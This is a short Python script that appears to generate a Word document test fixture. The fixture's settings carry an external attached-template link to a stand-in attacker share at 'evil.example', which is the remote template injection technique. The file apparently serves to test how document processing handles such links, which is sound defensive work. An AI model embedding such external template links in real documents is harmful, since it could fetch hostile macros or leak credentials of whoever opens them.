# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit
from recipes_ooxml import *

emit(docx(paragraph('KEPT'), [('rId1', 'settings', 'settings.xml')],
          parts={'word/settings.xml': f'<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/><w:linkStyles/><w:evenAndOddHeaders/></w:settings>',
                 'word/_rels/settings.xml.rels': relationships([('rId1', 'attachedTemplate', 'file://evil.example/share/a.dotm', 'External')])},
          types={'word/settings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml'}))
